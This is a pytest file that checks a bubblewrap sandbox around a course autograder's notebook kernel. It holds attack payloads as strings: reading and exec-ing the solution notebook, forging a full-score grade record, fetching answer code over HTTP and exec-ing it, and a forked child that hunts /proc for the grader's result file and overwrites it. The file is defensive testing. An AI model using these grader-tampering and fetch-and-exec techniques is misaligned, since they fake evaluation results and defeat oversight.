"""The learner's kernel in a bubblewrap sandbox: what it blocks, shown against the unsandboxed run.

Each attack wraps **stub** answers (every test fails on its own) with code that reaches outside
the kernel. Unsandboxed it works (the control: full marks, or a forged record); sandboxed it earns
nothing and leaves no trace. The static scan and the guard are off in both runs, so the sandbox is
the only thing that differs (the forked child has no control run: unsandboxed, its success is a race
with the grader reading the file). Sandboxed runs are skipped where bwrap cannot run, unless
VAE_COURSE_REQUIRE_SANDBOX=1 (.ci/run installs bubblewrap and sets it): then that is a failure.
"""
from __future__ import annotations

import http.server
import json
import os
import sys
import threading
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from adversarial.builders import ANSWERS, LESSON, TOTAL, make_course, submission, write  # noqa: E402

from vae_core.grading import sandbox  # noqa: E402
from vae_core.grading.autograde import GradeOptions, grade_lesson  # noqa: E402
from vae_core.grading.course import Lesson  # noqa: E402

pytestmark = pytest.mark.slow


def _require_sandbox():
    if sandbox.bwrap():
        return
    reason = "bubblewrap (bwrap) is not installed or cannot create namespaces here"
    if os.environ.get("VAE_COURSE_REQUIRE_SANDBOX") == "1":
        pytest.fail(f"VAE_COURSE_REQUIRE_SANDBOX=1 but {reason}")
    pytest.skip(reason)


def _grade(root: Path, nb: dict, sandboxed: bool):
    if sandboxed:
        _require_sandbox()
    write(nb, root / "workspace" / LESSON / f"{LESSON}.ipynb")
    return grade_lesson(Lesson(LESSON, root), None,
                        GradeOptions(timeout=120, scan=False, guard=False, sandbox=sandboxed))


def _with_attack(src: str, tests=("test_ex1_softplus", "test_ex2_lse", "test_ex3_kl")) -> dict:
    """Stub answers, and ``src`` run right before each of ``tests`` (after the stub it replaces)."""
    return submission("stub", before_tests={test: src for test in tests})


READ_SOLUTIONS = '''import json
_sol = json.load(open({path!r}))
for _c in _sol["cells"]:
    if _c["metadata"].get("nbgrader", {{}}).get("solution"):
        exec("".join(_c["source"]).replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
'''

FORGE_RECORD = '''import json, os
os.makedirs({folder!r}, exist_ok=True)
with open({path!r}, "a") as f:
    f.write(json.dumps({{"lesson": "{lesson}", "status": "graded", "score": {total}, "max": {total},
                        "timestamp": "2099-01-01T00:00:00Z", "exercises": []}}) + "\\n")
'''

FETCH_ANSWERS = '''import urllib.request
exec(urllib.request.urlopen("http://127.0.0.1:{port}/answers.py", timeout=5).read().decode())
'''

REWRITE_RESULT = '''import json, os, time
def _find_result():
    for pid in os.listdir("/proc"):
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        if b"--result" in args:
            return args[args.index(b"--result") + 1].decode()
_target = _find_result()
if _target and os.fork() == 0:  # a child that outlives the kernel and keeps forging the grader's result
    _forged = {{"status": "graded", "exercises": [{{"grade_id": g, "points": p, "max": p, "passed": True, "message": ""}}
               for g, p in (("test_ex1_softplus", 2.0), ("test_ex2_lse", 2.0), ("test_ex3_kl", 1.0))], "notes": []}}
    os.setsid()
    for _ in range(3000):
        try:
            with open(_target, "w") as f:
                json.dump(_forged, f)
        except OSError:
            pass
        time.sleep(0.01)
    os._exit(0)
'''


@pytest.mark.parametrize("sandboxed", [False, True], ids=["unsandboxed", "sandboxed"])
def test_reading_the_courses_solutions(tmp_path, sandboxed):
    root = make_course(tmp_path)
    attack = READ_SOLUTIONS.format(path=str(root / "solutions" / LESSON / f"{LESSON}.ipynb"))
    res = _grade(root, _with_attack(attack), sandboxed)
    assert res.status == "graded", res.message
    assert res.score == (0.0 if sandboxed else TOTAL), [(e.grade_id, e.points, e.message) for e in res.exercises]


@pytest.mark.parametrize("sandboxed", [False, True], ids=["unsandboxed", "sandboxed"])
def test_forging_a_line_in_the_grade_record(tmp_path, sandboxed):
    root = make_course(tmp_path)
    record = root / ".vae_course" / "grades.jsonl"
    attack = FORGE_RECORD.format(folder=str(record.parent), path=str(record), lesson=LESSON, total=TOTAL)
    res = _grade(root, _with_attack(attack), sandboxed)
    assert res.score == 0.0
    forged = record.exists() and "2099-01-01" in record.read_text()
    assert forged is not sandboxed, "the forged line should reach the record only without the sandbox"


@pytest.mark.parametrize("sandboxed", [False, True], ids=["unsandboxed", "sandboxed"])
def test_fetching_answers_over_the_network(tmp_path, sandboxed):
    answers = "".join(ANSWERS[k][0].replace("    ### BEGIN SOLUTION\n", "").replace("    ### END SOLUTION\n", "")
                      for k in ANSWERS)
    (tmp_path / "www").mkdir()
    (tmp_path / "www" / "answers.py").write_text("import torch\n" + answers)
    handler = lambda *a, **k: http.server.SimpleHTTPRequestHandler(*a, directory=str(tmp_path / "www"), **k)  # noqa: E731
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        root = make_course(tmp_path / "course")
        res = _grade(root, _with_attack(FETCH_ANSWERS.format(port=server.server_address[1])), sandboxed)
    finally:
        server.shutdown()
    assert res.score == (0.0 if sandboxed else TOTAL), [(e.grade_id, e.points, e.message) for e in res.exercises]


def test_a_forked_child_cannot_rewrite_the_graders_result(tmp_path):
    root = make_course(tmp_path)
    res = _grade(root, _with_attack(REWRITE_RESULT, tests=("test_ex1_softplus",)), sandboxed=True)
    assert res.status == "graded" and res.score == 0.0, [(e.grade_id, e.points) for e in res.exercises]


def test_the_sandboxed_kernel_sees_no_course_secrets_no_grader_and_no_network(tmp_path):
    """What the kernel itself observes: the probe is the answer to exercise 1, so what it saw comes
    back as that test's one-line failure message."""
    root = make_course(tmp_path)
    (root / ".vae_course").mkdir()
    (root / ".vae_course" / "grades.jsonl").write_text("{}\n")
    probe = f'''    import os, socket
    sol = len(os.listdir({str(root / "solutions")!r}))
    rec = int(os.path.exists({str(root / ".vae_course" / "grades.jsonl")!r}))
    maxpid = max(int(p) for p in os.listdir("/proc") if p.isdigit())
    import sys, vae_core
    here = os.path.dirname(os.getcwd())
    needed = (sys.prefix, os.path.dirname(os.path.dirname(vae_core.__file__)))  # bound again when under /tmp
    tmp = sum(len(fs) for d, _, fs in os.walk("/tmp")
              if not d.startswith(("/tmp/ipython", "/tmp/matplotlib", here, *needed)))
    folder = "+".join(sorted(os.listdir(here)))
    try:
        socket.create_connection(("127.0.0.1", 9), timeout=2)
        net = "connected"
    except OSError as err:
        net = type(err).__name__
    try:
        open({str(root / "lessons" / "probe.txt")!r}, "w").write("x")
        write = 1
    except OSError:
        write = 0
    raise AssertionError(f"SEEN sol={{sol}} rec={{rec}} write={{write}} tmp={{tmp}} net={{net}} maxpid={{maxpid}} dir={{folder}}")
'''
    _require_sandbox()
    write(submission({"ex1_softplus": probe}), root / "workspace" / LESSON / f"{LESSON}.ipynb")
    res = grade_lesson(Lesson(LESSON, root), None, GradeOptions(timeout=120, scan=False, guard=False, sandbox=True))
    message = next(e.message for e in res.exercises if e.grade_id == "test_ex1_softplus")
    seen = dict(item.split("=", 1) for item in message.split("SEEN ", 1)[1].split())
    assert seen["sol"] == "0" and seen["rec"] == "0" and seen["write"] == "0", seen
    assert seen["tmp"] == "0", "files in /tmp (other gradings, test folders) must be hidden"
    assert seen["dir"] == "runtime+work", "the gradebook, result file and solution copy must be hidden"
    assert int(seen["maxpid"]) < 20, f"the kernel sees processes outside its namespace: {seen}"
    assert seen["net"] != "connected"
    assert not (root / "lessons" / "probe.txt").exists()


def test_unsandboxed_grading_says_so_in_one_line(tmp_path):
    root = make_course(tmp_path)
    res = _grade(root, submission("solution"), sandboxed=False)
    assert res.score == TOTAL and res.notes.count(sandbox.UNSANDBOXED_NOTE) == 1
